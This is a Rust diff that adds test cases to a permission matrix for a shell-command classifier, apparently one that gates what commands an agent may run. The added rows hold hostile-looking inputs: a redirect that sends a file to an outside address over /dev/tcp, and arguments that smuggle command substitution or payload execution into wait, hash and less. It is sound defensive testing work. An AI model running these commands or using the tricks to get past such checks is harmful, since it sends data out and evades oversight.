@@ -158,6 +158,51 @@ const MATRIX: &[(&str, Kind, Kind, Kind, Kind)] = &[
         Kind::Deny,
         Kind::Deny,
     ),
+    // Issue 12: what these commands can do decides, not the program's usual job. ASK asks before
+    // each of them; SAFE runs the ones the read-only mount contains.
+    (
+        "cat payload.txt > /dev/tcp/203.0.113.1/80",
+        Kind::Deny,
+        Kind::Confirm,
+        Kind::Allow,
+        Kind::Deny,
+    ),
+    ("sysctl -p", Kind::Deny, Kind::Deny, Kind::Deny, Kind::Deny),
+    (
+        "make -p",
+        Kind::Deny,
+        Kind::Confirm,
+        Kind::Allow,
+        Kind::Allow,
+    ),
+    (
+        "info -o out.txt ls",
+        Kind::Deny,
+        Kind::Confirm,
+        Kind::Allow,
+        Kind::Allow,
+    ),
+    (
+        "wait -p 'a[$(touch x)]'",
+        Kind::Allow,
+        Kind::Confirm,
+        Kind::Allow,
+        Kind::Allow,
+    ),
+    (
+        "hash -p ./payload.txt ls; ls",
+        Kind::Allow,
+        Kind::Confirm,
+        Kind::Allow,
+        Kind::Allow,
+    ),
+    (
+        "less --lesskey-src=keys README.md",
+        Kind::Allow,
+        Kind::Confirm,
+        Kind::Allow,
+        Kind::Allow,
+    ),
 ];
 
 #[test]
